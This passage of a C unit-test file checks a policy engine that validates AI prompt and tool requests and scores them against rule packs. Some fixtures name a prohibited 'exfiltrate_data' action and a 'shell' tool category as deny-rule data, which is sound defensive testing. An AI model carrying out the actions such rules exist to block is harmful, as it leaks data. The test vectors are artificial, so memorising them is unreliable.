/* test_policy.c - gov_policy: request validation, evaluation, response body.
 *
 * Known answers: tests/vectors/policy/cases.json (45 cases).  Its decisions,
 * scores and reason lists are hand-computed in tests/vectors/policy/gen.py;
 * the input digests come from the PyPI rfc8785 package + hashlib, the first
 * match offsets from a brute-force search with Python's re, and the expected
 * response bodies from a writer in that script - none of it shares code with
 * common/.  Every case is compared field by field and byte for byte.
 *
 * Properties, each with a fixed-seed PRNG: (a) the same answer over 1000
 * runs, fresh or shared scratch; (b) adding a rule that matches never lowers
 * the score nor softens the decision; (c) the score is the clamped sum;
 * (d) the declaration order of rules changes no byte of the response; (e) a
 * case-insensitive literal and the equivalent regex agree; (f) redaction
 * masks exactly what a reference search written here says.  Also: excerpts
 * are valid UTF-8 next to multi-byte characters, the redact member and the
 * edges of masking by hand, allocation failures are clean, and a 1 MiB
 * prompt against a 500-rule pack scans correctly.
 *
 * Data files are found under $GOV_ROOT, else the current directory.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "gov_alloc.h"
#include "gov_canon.h"
#include "gov_policy.h"
#include "gov_rulepack.h"
#include "gov_util.h"
#include "unit_files.h"

/* ---- helpers (plain malloc: failure injection must not hit the harness) ---- */

static json_t *vectors(void) {
    static json_t *v;
    if (v == NULL)
        v = unit_policy_cases();
    return v;
}

static gov_rulepack_t *pack_from_text(const char *text) {
    gov_rulepack_t *p = NULL;
    gov_rulepack_error_t d;
    char err[512] = "";
    gov_err_t rc = gov_rulepack_parse(text, strlen(text), NULL, &p, &d, err, sizeof err);
    if (rc != GOV_OK)
        fail_msg("pack refused: %s [%s]: %s", gov_err_code(rc), gov_reason_code(d.code), err);
    return p;
}

static gov_rulepack_t *pack_from_json(const json_t *j) {
    char *text = json_dumps(j, JSON_COMPACT);
    assert_non_null(text);
    gov_rulepack_t *p = pack_from_text(text);
    free(text);
    return p;
}

static gov_policy_constitution_t *constitution_from_text(const char *text) {
    json_t *doc = json_loads(text, 0, NULL);
    assert_non_null(doc);
    gov_policy_constitution_t *c = NULL;
    char err[256] = "";
    gov_err_t rc = gov_policy_constitution_from_json(doc, &c, err, sizeof err);
    if (rc != GOV_OK)
        fail_msg("constitution refused: %s: %s", gov_err_code(rc), err);
    json_decref(doc);
    return c;
}

static gov_policy_constitution_t *constitution_from_json(const json_t *doc) {
    gov_policy_constitution_t *c = NULL;
    char err[256] = "";
    gov_err_t rc = gov_policy_constitution_from_json(doc, &c, err, sizeof err);
    if (rc != GOV_OK)
        fail_msg("constitution refused: %s: %s", gov_err_code(rc), err);
    return c;
}

static void request_from_text(const char *text, size_t len, gov_policy_request_t *req) {
    char err[256] = "";
    gov_err_t rc = gov_policy_request_parse(text, len, NULL, req, NULL, err, sizeof err);
    if (rc != GOV_OK)
        fail_msg("request refused: %s: %s", gov_err_code(rc), err);
}

static void request_from_json(const json_t *j, gov_policy_request_t *req) {
    char *text = json_dumps(j, JSON_COMPACT);
    assert_non_null(text);
    request_from_text(text, strlen(text), req);
    free(text);
}

static void evaluate(const gov_policy_constitution_t *c, const gov_rulepack_t *p,
                     const gov_policy_request_t *req, gov_matcher_scratch_t *s,
                     gov_policy_decision_t *d) {
    char err[256] = "";
    gov_reason_t why = GOV_REASON_COUNT_;
    gov_err_t rc = gov_policy_evaluate(c, p, req, s, d, &why, err, sizeof err);
    if (rc != GOV_OK)
        fail_msg("evaluate failed: %s %s: %s", gov_err_code(rc), gov_reason_code(why), err);
    assert_int_equal(why, GOV_REASON_NONE);
}

/* Evaluates and returns the response body (malloc'd by gov_malloc). */
static char *evaluate_json(const gov_policy_constitution_t *c, const gov_rulepack_t *p,
                           const gov_policy_request_t *req, gov_matcher_scratch_t *s) {
    gov_policy_decision_t d;
    evaluate(c, p, req, s, &d);
    char *out = NULL;
    size_t len = 0;
    assert_int_equal(gov_policy_decision_to_json(&d, NULL, &out, &len), GOV_OK);
    assert_int_equal(strlen(out), len);
    gov_policy_decision_clear(&d);
    return out;
}

static uint64_t rng_state;

static uint32_t rnd(uint32_t n) {
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return (uint32_t)((rng_state * 0x2545F4914F6CDD1DULL) >> 32) % n;
}

/* ---- the vectors ---------------------------------------------------------------- */

static void test_vectors(void **state) {
    (void)state;
    json_t *v = vectors();
    json_t *cases = json_object_get(v, "cases");
    assert_true(json_array_size(cases) >= 25);
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    size_t i;
    json_t *cs;
    json_array_foreach(cases, i, cs) {
        const char *name = json_string_value(json_object_get(cs, "name"));
        json_t *ex = json_object_get(cs, "expect");
        gov_rulepack_t *p = pack_from_json(json_object_get(
            json_object_get(v, "packs"), json_string_value(json_object_get(cs, "pack"))));
        gov_policy_constitution_t *c = constitution_from_json(json_object_get(
            json_object_get(v, "constitutions"),
            json_string_value(json_object_get(cs, "constitution"))));
        gov_policy_request_t req;
        request_from_json(json_object_get(cs, "request"), &req);
        gov_policy_decision_t d;
        evaluate(c, p, &req, s, &d);

        if (strcmp(gov_decision_name(d.decision),
                   json_string_value(json_object_get(ex, "decision"))) != 0)
            fail_msg("%s: decision %s, want %s", name, gov_decision_name(d.decision),
                     json_string_value(json_object_get(ex, "decision")));
        if (d.score_micros != json_integer_value(json_object_get(ex, "score_micros")))
            fail_msg("%s: score %lld, want %lld", name, (long long)d.score_micros,
                     (long long)json_integer_value(json_object_get(ex, "score_micros")));
        assert_int_equal(d.max_risk_micros, json_integer_value(json_object_get(ex, "max_risk_micros")));
        assert_int_equal(d.approval_micros, json_integer_value(json_object_get(ex, "approval_micros")));
        assert_string_equal(d.input_digest, json_string_value(json_object_get(ex, "input_digest")));
        assert_string_equal(req.input_digest, d.input_digest);
        json_t *reasons = json_object_get(ex, "reasons");
        if (d.nreasons != json_array_size(reasons))
            fail_msg("%s: %zu reasons, want %zu", name, d.nreasons, json_array_size(reasons));
        for (size_t k = 0; k < d.nreasons; k++) {
            const gov_policy_reason_t *r = &d.reasons[k];
            const char *want = json_string_value(json_array_get(reasons, k));
            if (strcmp(r->rule_id, want) != 0)
                fail_msg("%s: reason %zu is %s, want %s", name, k, r->rule_id, want);
            json_t *x = json_object_get(json_object_get(ex, "excerpts"), want);
            assert_int_equal(r->has_excerpt, x != NULL);
            if (x != NULL) {
                assert_int_equal(r->match_end, json_integer_value(json_object_get(x, "match_end")));
                assert_int_equal(r->excerpt_start, json_integer_value(json_object_get(x, "start")));
                assert_int_equal(r->excerpt_end, json_integer_value(json_object_get(x, "end")));
                assert_string_equal(r->excerpt, json_string_value(json_object_get(x, "text")));
            }
        }
        char *out = NULL;
        size_t len = 0;
        assert_int_equal(gov_policy_decision_to_json(&d, NULL, &out, &len), GOV_OK);
        const char *want_json = json_string_value(json_object_get(ex, "json"));
        if (strcmp(out, want_json) != 0)
            fail_msg("%s: response\n  got  %s\n  want %s", name, out, want_json);
        assert_non_null(strstr(out, json_string_value(json_object_get(ex, "score"))));
        gov_free(out);
        gov_policy_decision_clear(&d);
        gov_policy_request_clear(&req);
        gov_policy_constitution_free(c);
        gov_rulepack_free(p);
    }
    gov_matcher_scratch_free(s);
}

/* docs/policy.md's worked example is the vector "worked_example": the
 * document shows the same response body, byte for byte. */
static void test_docs_worked_example(void **state) {
    (void)state;
    json_t *cases = json_object_get(vectors(), "cases");
    json_t *we = NULL, *cs;
    size_t i;
    json_array_foreach(cases, i, cs) {
        if (strcmp(json_string_value(json_object_get(cs, "name")), "worked_example") == 0)
            we = cs;
    }
    assert_non_null(we);
    char *doc = unit_slurp("docs/policy.md", NULL);
    json_t *ex = json_object_get(we, "expect");
    const char *body = json_string_value(json_object_get(ex, "json"));
    if (strstr(doc, body) == NULL)
        fail_msg("docs/policy.md does not show the worked example's response:\n%s", body);
    if (strstr(doc, json_string_value(json_object_get(ex, "input_digest"))) == NULL)
        fail_msg("docs/policy.md does not show the worked example's input_digest");
    assert_non_null(strstr(doc, "350000 + 50000 + 150000 = 550000"));
    free(doc);
}

/* ---- requests ------------------------------------------------------------------------ */

#define REQ_HEAD "\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\""

static void expect_request_error(const char *text, size_t len, const gov_policy_limits_t *lim,
                                 gov_err_t want_rc, const char *want_prefix) {
    gov_policy_request_t req;
    memset(&req, 0x5a, sizeof req);
    char err[256] = "", shown[320];
    gov_reason_t reason = GOV_REASON_COUNT_;
    gov_err_t rc = gov_policy_request_parse(text, len, lim, &req, &reason, err, sizeof err);
    /* The code travels as a value, the detail in err: "code: detail" is
     * what the HTTP error body shows as code and message. */
    snprintf(shown, sizeof shown, "%s: %s", gov_reason_code(reason), err);
    if (rc != want_rc || strncmp(shown, want_prefix, strlen(want_prefix)) != 0)
        fail_msg("request %.60s: got %s \"%s\", want %s \"%s...\"", text, gov_err_code(rc), shown,
                 gov_err_code(want_rc), want_prefix);
    assert_null(req.mem);
    assert_null(req.tenant);
}

static void test_request_errors(void **state) {
    (void)state;
    static const struct {
        const char *text;
        gov_err_t rc;
        const char *prefix;
    } cases[] = {
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"extra\":1}", GOV_ERR_PARSE,
         "unknown_field: extra is not a known member"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"tool\":{\"name\":\"n\",\"category\":\"c\",\"v\":2}}",
         GOV_ERR_PARSE, "unknown_field: tool.v is not a known member"},
        {"{\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\",\"prompt\":\"p\"}", GOV_ERR_PARSE,
         "missing_field: tenant is required"},
        {"{" REQ_HEAD "}", GOV_ERR_PARSE, "missing_field: prompt is required"},
        {"{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"prompt\":\"p\"}",
         GOV_ERR_PARSE, "missing_field: role is required"},
        {"{\"tenant\":\"-demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\",\"prompt\":\"p\"}",
         GOV_ERR_PARSE, "invalid_tenant"},
        {"{\"tenant\":\"de mo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\",\"prompt\":\"p\"}",
         GOV_ERR_PARSE, "invalid_tenant"},
        {"{\"tenant\":7,\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\",\"prompt\":\"p\"}",
         GOV_ERR_PARSE, "invalid_type: tenant must be a string"},
        {"{" REQ_HEAD ",\"prompt\":5}", GOV_ERR_PARSE, "invalid_type: prompt must be a string"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"action\":null}", GOV_ERR_PARSE,
         "invalid_type: action must be a string"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"action\":\"\"}", GOV_ERR_PARSE,
         "invalid_value: action must not be empty"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"tool\":\"shell\"}", GOV_ERR_PARSE,
         "invalid_type: tool must be an object"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"tool\":{\"name\":\"n\"}}", GOV_ERR_PARSE,
         "missing_field: tool.category is required"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":{\"a\":\"1\",\"b\":2}}", GOV_ERR_PARSE,
         "invalid_type: metadata.b must be a string"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":[]}", GOV_ERR_PARSE,
         "invalid_type: metadata must be an object"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":{\"\":\"x\"}}", GOV_ERR_PARSE,
         "invalid_value: metadata keys must not be empty"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":{\"k\":\"a\\u0000b\"}}", GOV_ERR_PARSE,
         "invalid_value: metadata.k must not contain U+0000"},
        {"{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"a\\u0000\","
         "\"prompt\":\"p\"}",
         GOV_ERR_PARSE, "invalid_value: role must not contain U+0000"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":{\"k\":{\"x\":\"y\"}}}", GOV_ERR_PARSE,
         "invalid_type: metadata.k must be a string"},
        {"{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":{\"k\":{\"x\":{\"y\":{\"z\":1}}}}}",
         GOV_ERR_TOO_LARGE, "too_deep: the request nests deeper than 4"},
        {"{" REQ_HEAD ",\"prompt\":\"\xff\"}", GOV_ERR_PARSE, "invalid_utf8"},
        {"{" REQ_HEAD ",\"prompt\":\"\xed\xa0\x80\"}", GOV_ERR_PARSE, "invalid_utf8"},
        {"{" REQ_HEAD ",\"prompt\":\"\\ud800\"}", GOV_ERR_PARSE, "invalid_utf8"},
        {"{" REQ_HEAD ",\"prompt\":\"a\",\"prompt\":\"b\"}", GOV_ERR_PARSE, "duplicate_key"},
        {"{" REQ_HEAD ",\"prompt\":\"p\"} x", GOV_ERR_PARSE, "trailing_garbage"},
        {"{" REQ_HEAD ",\"prompt\":", GOV_ERR_PARSE, "syntax"},
        {"[1]", GOV_ERR_PARSE, "invalid_type: the request must be a JSON object"},
        {"\"just a string\"", GOV_ERR_PARSE, "invalid_type"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        expect_request_error(cases[i].text, strlen(cases[i].text), NULL, cases[i].rc,
                             cases[i].prefix);

    /* A NUL byte in the body is refused by the grammar pass. */
    const char nul[] = "{" REQ_HEAD ",\"prompt\":\"p\"}\0";
    expect_request_error(nul, sizeof nul - 1, NULL, GOV_ERR_PARSE, "");

    /* Oversize strings and bodies, with small limits. */
    gov_policy_limits_t lim = gov_policy_limits_default();
    assert_int_equal(lim.max_prompt_bytes, 1024 * 1024);
    lim.max_prompt_bytes = 4;
    const char *t = "{" REQ_HEAD ",\"prompt\":\"12345\"}";
    expect_request_error(t, strlen(t), &lim, GOV_ERR_TOO_LARGE,
                         "too_large: prompt is 5 bytes (limit 4)");
    lim = gov_policy_limits_default();
    lim.max_string_bytes = 3;
    t = "{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"admin\","
                    "\"prompt\":\"p\"}";
    expect_request_error(t, strlen(t), &lim, GOV_ERR_TOO_LARGE,
                         "too_large: role is 5 bytes (limit 3)");
    lim = gov_policy_limits_default();
    lim.max_bytes = 10;
    expect_request_error(t, strlen(t), &lim, GOV_ERR_TOO_LARGE, "too_large: the request is");
    lim = gov_policy_limits_default();
    lim.max_metadata_entries = 1;
    t = "{" REQ_HEAD ",\"prompt\":\"p\",\"metadata\":{\"a\":\"1\",\"b\":\"2\"}}";
    expect_request_error(t, strlen(t), &lim, GOV_ERR_TOO_LARGE,
                         "too_large: metadata has 2 entries (limit 1)");
    lim = gov_policy_limits_default();
    lim.max_depth = 1;
    t = "{" REQ_HEAD ",\"prompt\":\"p\",\"tool\":{\"name\":\"n\",\"category\":\"c\"}}";
    expect_request_error(t, strlen(t), &lim, GOV_ERR_TOO_LARGE, "too_deep");

    gov_policy_request_t req;
    assert_int_equal(gov_policy_request_parse(NULL, 0, NULL, &req, NULL, NULL, 0), GOV_ERR_INVALID_ARG);
    gov_policy_request_clear(NULL);
}

/* input_digest is SHA-256 over the JCS bytes: member order and whitespace
 * do not change it, a value does.  The JCS bytes are written here by hand
 * and hashed with OpenSSL directly. */
static void test_input_digest(void **state) {
    (void)state;
    const char *a = "{ \"prompt\" : \"caf\\u00e9 \\\"x\\\"\\n\", \"role\":\"r\", \"user\":\"u\","
                    " \"session_id\":\"s\", \"tenant\":\"demo\", \"metadata\":{\"b\":\"2\",\"a\":\"1\"},"
                    " \"tool\":{\"category\":\"search\",\"name\":\"g\"}, \"action\":\"look\" }";
    const char *b = "{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\","
                    "\"prompt\":\"caf\xc3\xa9 \\\"x\\\"\\n\",\"action\":\"look\","
                    "\"tool\":{\"name\":\"g\",\"category\":\"search\"},"
                    "\"metadata\":{\"a\":\"1\",\"b\":\"2\"}}";
    const char *jcs = "{\"action\":\"look\",\"metadata\":{\"a\":\"1\",\"b\":\"2\"},"
                      "\"prompt\":\"caf\xc3\xa9 \\\"x\\\"\\n\",\"role\":\"r\",\"session_id\":\"s\","
                      "\"tenant\":\"demo\",\"tool\":{\"category\":\"search\",\"name\":\"g\"},"
                      "\"user\":\"u\"}";
    unsigned char md[32];
    unsigned int mdlen = 0;
    assert_int_equal(EVP_Digest(jcs, strlen(jcs), md, &mdlen, EVP_sha256(), NULL), 1);
    char want[65];
    gov_hex_encode(md, 32, want);
    gov_policy_request_t ra, rb, rc;
    request_from_text(a, strlen(a), &ra);
    request_from_text(b, strlen(b), &rb);
    assert_string_equal(ra.input_digest, want);
    assert_string_equal(rb.input_digest, want);
    assert_string_equal(ra.tool_category, "search");
    assert_string_equal(ra.action, "look");
    assert_int_equal(ra.prompt_len, strlen("caf\xc3\xa9 \"x\"\n"));
    const char *c = "{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\",\"role\":\"r\","
                    "\"prompt\":\"caf\xc3\xa9 \\\"x\\\"\\n\",\"action\":\"look\","
                    "\"tool\":{\"name\":\"g\",\"category\":\"search\"},"
                    "\"metadata\":{\"a\":\"1\",\"b\":\"3\"}}";
    request_from_text(c, strlen(c), &rc);
    assert_string_not_equal(rc.input_digest, want);
    gov_policy_request_clear(&ra);
    gov_policy_request_clear(&rb);
    gov_policy_request_clear(&rc);
}

/* ---- constitution rules ---------------------------------------------------------------- */

static void test_constitution_rules(void **state) {
    (void)state;
    gov_policy_constitution_t *c = constitution_from_text("{\"version\":\"1\"}");
    assert_int_equal(gov_policy_constitution_max_risk_micros(c), 1000000);
    assert_int_equal(gov_policy_constitution_approval_micros(c), 1000000);
    gov_policy_constitution_free(c);
    c = constitution_from_text("{\"rules\":{\"max_risk_score\":0,\"require_human_approval_above_"
                               "risk\":1}}");
    assert_int_equal(gov_policy_constitution_max_risk_micros(c), 0);
    assert_int_equal(gov_policy_constitution_approval_micros(c), 1000000);
    gov_policy_constitution_free(c);
    gov_policy_constitution_free(NULL);

    static const struct {
        const char *doc, *msg;
    } bad[] = {
        {"{\"rules\":[]}", "rules must be an object"},
        /* strict: an unknown member (a typo of a rule, or a rule this engine
         * does not know) is refused, naming it */
        {"{\"rules\":{\"max_risk_score\":0,\"new_rule\":[1,2]}}", "rules.new_rule is not a known rule"},
        {"{\"rules\":{\"prohibited_action\":[\"exfiltrate_data\"]}}",
         "rules.prohibited_action is not a known rule"},
        {"{\"rules\":{\"max_risk_score\":1.5}}", "rules.max_risk_score 1.5 is not in [0,1]"},
        {"{\"rules\":{\"max_risk_score\":-0.5}}", "rules.max_risk_score -0.5 is not in [0,1]"},
        {"{\"rules\":{\"require_human_approval_above_risk\":0.1234567}}",
         "rules.require_human_approval_above_risk 0.1234567 has more than 6 decimal places"},
        {"{\"rules\":{\"max_risk_score\":\"0.5\"}}", "rules.max_risk_score must be a number"},
        {"{\"rules\":{\"prohibited_actions\":\"export\"}}",
         "rules.prohibited_actions must be an array of strings"},
        {"{\"rules\":{\"permitted_tool_categories\":[\"a\",3]}}",
         "rules.permitted_tool_categories[1] must be a string without U+0000"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        json_t *doc = json_loads(bad[i].doc, 0, NULL);
        char err[256] = "";
        c = (gov_policy_constitution_t *)0x1;
        assert_int_equal(gov_policy_constitution_from_json(doc, &c, err, sizeof err),
                         GOV_ERR_VERIFY);
        assert_null(c);
        if (strcmp(err, bad[i].msg) != 0)
            fail_msg("%s: \"%s\", want \"%s\"", bad[i].doc, err, bad[i].msg);
        json_decref(doc);
    }
    json_t *arr = json_array();
    assert_int_equal(gov_policy_constitution_from_json(arr, &c, NULL, 0), GOV_ERR_INVALID_ARG);
    json_decref(arr);
}

/* Thresholds: effective = min(constitution, pack), over random pairs, and
 * the decision follows the effective values exactly. */
static void test_thresholds_never_loosen(void **state) {
    (void)state;
    rng_state = 7;
    gov_policy_request_t req;
    request_from_text("{" REQ_HEAD ",\"prompt\":\"p\"}", strlen("{" REQ_HEAD ",\"prompt\":\"p\"}"),
                      &req);
    for (int iter = 0; iter < 200; iter++) {
        int64_t cm = rnd(1000001), ca = rnd(1000001), pm = rnd(1000001), pa = rnd(1000001);
        int64_t w = rnd(1000001);
        char ctext[256], ptext[512];
        snprintf(ctext, sizeof ctext,
                 "{\"rules\":{\"max_risk_score\":%lld.%06lld,"
                 "\"require_human_approval_above_risk\":%lld.%06lld}}",
                 (long long)(cm / 1000000), (long long)(cm % 1000000), (long long)(ca / 1000000),
                 (long long)(ca % 1000000));
        snprintf(ptext, sizeof ptext,
                 "{\"pack_id\":\"t\",\"tenant\":\"demo\",\"version\":\"1\",\"thresholds\":{"
                 "\"max_risk_score\":%lld.%06lld,\"require_human_approval_above_risk\":%lld.%06lld},"
                 "\"rules\":[{\"id\":\"r\",\"severity\":\"low\",\"weight\":%lld.%06lld,"
                 "\"effect\":\"add\",\"message\":\"m\",\"match\":{\"role\":[\"r\"]}}]}",
                 (long long)(pm / 1000000), (long long)(pm % 1000000), (long long)(pa / 1000000),
                 (long long)(pa % 1000000), (long long)(w / 1000000), (long long)(w % 1000000));
        gov_policy_constitution_t *c = constitution_from_text(ctext);
        gov_rulepack_t *p = pack_from_text(ptext);
        gov_policy_decision_t d;
        evaluate(c, p, &req, NULL, &d);
        int64_t em = cm < pm ? cm : pm, ea = ca < pa ? ca : pa;
        assert_int_equal(d.max_risk_micros, em);
        assert_int_equal(d.approval_micros, ea);
        assert_true(d.max_risk_micros <= cm && d.approval_micros <= ca);
        assert_int_equal(d.score_micros, w);
        gov_decision_t want = w > em ? GOV_DECISION_DENY
                              : w > ea ? GOV_DECISION_REVIEW
                                       : GOV_DECISION_ALLOW;
        assert_int_equal(d.decision, want);
        gov_policy_decision_clear(&d);
        gov_rulepack_free(p);
        gov_policy_constitution_free(c);
    }
    gov_policy_request_clear(&req);
}

/* ---- properties ------------------------------------------------------------------------ */

static json_t *case_named(const char *name) {
    json_t *cs;
    size_t i;
    json_array_foreach(json_object_get(vectors(), "cases"), i, cs) {
        if (strcmp(json_string_value(json_object_get(cs, "name")), name) == 0)
            return cs;
    }
    fail_msg("no vector %s", name);
    return NULL;
}

/* (a) 1000 runs with a fresh scratch each and 1000 with one shared scratch
 * (interleaved with another pack, so the scratch is refitted) give the same
 * bytes as the first run. */
static void test_same_answer_every_run(void **state) {
    (void)state;
    json_t *v = vectors();
    json_t *cs = case_named("worked_example");
    gov_rulepack_t *p = pack_from_json(json_object_get(json_object_get(v, "packs"), "base"));
    gov_rulepack_t *other = pack_from_json(json_object_get(json_object_get(v, "packs"), "heavy"));
    gov_policy_constitution_t *c =
        constitution_from_json(json_object_get(json_object_get(v, "constitutions"), "demo"));
    gov_policy_request_t req, oreq;
    request_from_json(json_object_get(cs, "request"), &req);
    request_from_json(json_object_get(case_named("clamp_demo_denies"), "request"), &oreq);
    const char *want = json_string_value(json_object_get(json_object_get(cs, "expect"), "json"));
    gov_matcher_scratch_t *shared = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &shared), GOV_OK);
    for (int run = 0; run < 1000; run++) {
        gov_matcher_scratch_t *fresh = NULL;
        assert_int_equal(gov_matcher_scratch_new(gov_rulepack_matcher(p), &fresh), GOV_OK);
        char *a = evaluate_json(c, p, &req, fresh);
        char *b = evaluate_json(c, p, &req, shared);
        char *o = evaluate_json(c, other, &oreq, shared);
        if (strcmp(a, want) != 0 || strcmp(b, want) != 0)
            fail_msg("run %d differs:\n%s\n%s", run, a, b);
        assert_non_null(strstr(o, "\"decision\":\"deny\",\"score\":1.000000"));
        gov_free(a);
        gov_free(b);
        gov_free(o);
        gov_matcher_scratch_free(fresh);
    }
    gov_matcher_scratch_free(shared);
    gov_policy_request_clear(&req);
    gov_policy_request_clear(&oreq);
    gov_policy_constitution_free(c);
    gov_rulepack_free(p);
    gov_rulepack_free(other);
}

/* Random packs over a small vocabulary.  Each rule gets conditions drawn
 * from: a prompt literal, a role set, an action set, a tool category set,
 * a metadata equals/in. */
static const char *const vocab[] = {"alpha", "beta", "gamma", "delta", "eps"};
static const char *const roles[] = {"analyst", "intern", "admin"};
static const char *const actions[] = {"read", "export", "send_email"};
static const char *const cats[] = {"search", "email", "shell"};

/* Appends one random rule with id and weight to buf. */
static int random_rule(char *buf, size_t cap, const char *id, int64_t weight, int deny) {
    char match[512] = "";
    size_t o = 0;
    int n = 0;
    while (n == 0) {
        o = 0;
        if (rnd(2)) {
            o += (size_t)snprintf(match + o, sizeof match - o, "%s\"prompt\":[{\"literal\":\"%s\"%s}]",
                                  n++ ? "," : "", vocab[rnd(5)],
                                  rnd(2) ? ",\"case_insensitive\":true" : "");
        }
        if (rnd(3) == 0)
            o += (size_t)snprintf(match + o, sizeof match - o, "%s\"role\":[\"%s\",\"%s\"]",
                                  n++ ? "," : "", roles[rnd(3)], roles[rnd(3)]);
        if (rnd(3) == 0)
            o += (size_t)snprintf(match + o, sizeof match - o, "%s\"action\":[\"%s\"]",
                                  n++ ? "," : "", actions[rnd(3)]);
        if (rnd(4) == 0)
            o += (size_t)snprintf(match + o, sizeof match - o, "%s\"tool_category\":[\"%s\"]",
                                  n++ ? "," : "", cats[rnd(3)]);
        if (rnd(4) == 0)
            o += (size_t)snprintf(match + o, sizeof match - o,
                                  "%s\"metadata\":{\"env\":{\"in\":[\"prod\",\"%s\"]}}",
                                  n++ ? "," : "", rnd(2) ? "dev" : "test");
    }
    return snprintf(buf, cap,
                    "{\"id\":\"%s\",\"severity\":\"low\",\"weight\":%lld.%06lld,\"effect\":\"%s\","
                    "\"message\":\"m\",\"match\":{%s}}",
                    id, (long long)(weight / 1000000), (long long)(weight % 1000000),
                    deny ? "deny" : "add", match);
}

static void random_request(char *buf, size_t cap, const char *extra_word) {
    char prompt[128] = "";
    int words = (int)rnd(6);
    for (int i = 0; i < words; i++) {
        const char *w = vocab[rnd(5)];
        char up[16];
        snprintf(up, sizeof up, "%s", w);
        if (rnd(3) == 0)
            for (char *q = up; *q; q++)
                *q = (char)(*q - 32);
        strcat(prompt, up);
        strcat(prompt, " ");
    }
    if (extra_word)
        strcat(prompt, extra_word);
    size_t o = (size_t)snprintf(buf, cap,
                                "{\"tenant\":\"demo\",\"session_id\":\"s\",\"user\":\"u\","
                                "\"role\":\"%s\",\"prompt\":\"%s\"",
                                roles[rnd(3)], prompt);
    if (rnd(2))
        o += (size_t)snprintf(buf + o, cap - o, ",\"action\":\"%s\"", actions[rnd(3)]);
    if (rnd(2))
        o += (size_t)snprintf(buf + o, cap - o, ",\"tool\":{\"name\":\"t\",\"category\":\"%s\"}",
                              cats[rnd(3)]);
    if (rnd(2))
        o += (size_t)snprintf(buf + o, cap - o, ",\"metadata\":{\"env\":\"%s\"}",
                              rnd(2) ? "prod" : "dev");
    snprintf(buf + o, cap - o, "}");
}

/* (b) Adding a rule that matches never lowers the score and never softens
 * the decision; adding one that does not match changes nothing.  25 random
 * packs x 20 random requests = 500 pairs (each pack is compiled twice, not
 * once per pair: Vectorscan compiles dominate otherwise). */
static void test_adding_a_matched_rule_never_lowers_the_score(void **state) {
    (void)state;
    rng_state = 20240601;
    gov_policy_constitution_t *c = constitution_from_text(
        "{\"rules\":{\"max_risk_score\":0.8,\"require_human_approval_above_risk\":0.5}}");
    gov_matcher_scratch_t *s = NULL;
    assert_int_equal(gov_matcher_scratch_new(NULL, &s), GOV_OK);
    int matched_pairs = 0, raised = 0;
    for (int pk = 0; pk < 25; pk++) {
        char base[8192], plus[8192];
        size_t o = (size_t)snprintf(base, sizeof base,
                                    "{\"pack_id\":\"r\",\"tenant\":\"demo\",\"version\":\"1\","
                                    "\"rules\":[");
        int nr = 1 + (int)rnd(8);
        for (int i = 0; i < nr; i++) {
            char id[16];
            snprintf(id, sizeof id, "r%d", i);
            if (i)
                base[o++] = ',';
            o += (size_t)random_rule(base + o, sizeof base - o, id, rnd(600001), rnd(10) == 0);
        }
        /* The extra rule: keyed on role "intern" or on the prompt word EXTRA. */
        int by_role = (int)rnd(2);
        int64_t w = rnd(1000001);
        memcpy(plus, base, o);
        snprintf(plus + o, sizeof plus - o,
                 ",{\"id\":\"zz.extra\",\"severity\":\"high\",\"weight\":%lld.%06lld,"
                 "\"effect\":\"add\",\"message\":\"x\",\"match\":{%s}}]}",
                 (long long)(w / 1000000), (long long)(w % 1000000),
                 by_role ? "\"role\":[\"intern\"]" : "\"prompt\":[{\"literal\":\"EXTRA\"}]");
        snprintf(base + o, sizeof base - o, "]}");
        gov_rulepack_t *p0 = pack_from_text(base), *p1 = pack_from_text(plus);
        for (int rq = 0; rq < 20; rq++) {
            char rtext[1024];
            random_request(rtext, sizeof rtext, rnd(2) ? "EXTRA" : NULL);
            gov_policy_request_t req;
            request_from_text(rtext, strlen(rtext), &req);
            gov_policy_decision_t d0, d1;
            evaluate(c, p0, &req, s, &d0);
            evaluate(c, p1, &req, s, &d1);
            int extra_matches = d1.nreasons > 0 &&
                                strcmp(d1.reasons[d1.nreasons - 1].rule_id, "zz.extra") == 0;
            int expect_match = by_role ? strcmp(req.role, "intern") == 0
                                       : strstr(req.prompt, "EXTRA") != NULL;
            assert_int_equal(extra_matches, expect_match);
            assert_true(d1.score_micros >= d0.score_micros);
            assert_true(d1.decision >= d0.decision);
            if (extra_matches) {
                matched_pairs++;
                int64_t want = d0.score_micros + w;
                assert_int_equal(d1.score_micros, want > 1000000 ? 1000000 : want);
                assert_int_equal(d1.nreasons, d0.nreasons + 1);
                raised += d1.score_micros > d0.score_micros;
            } else {
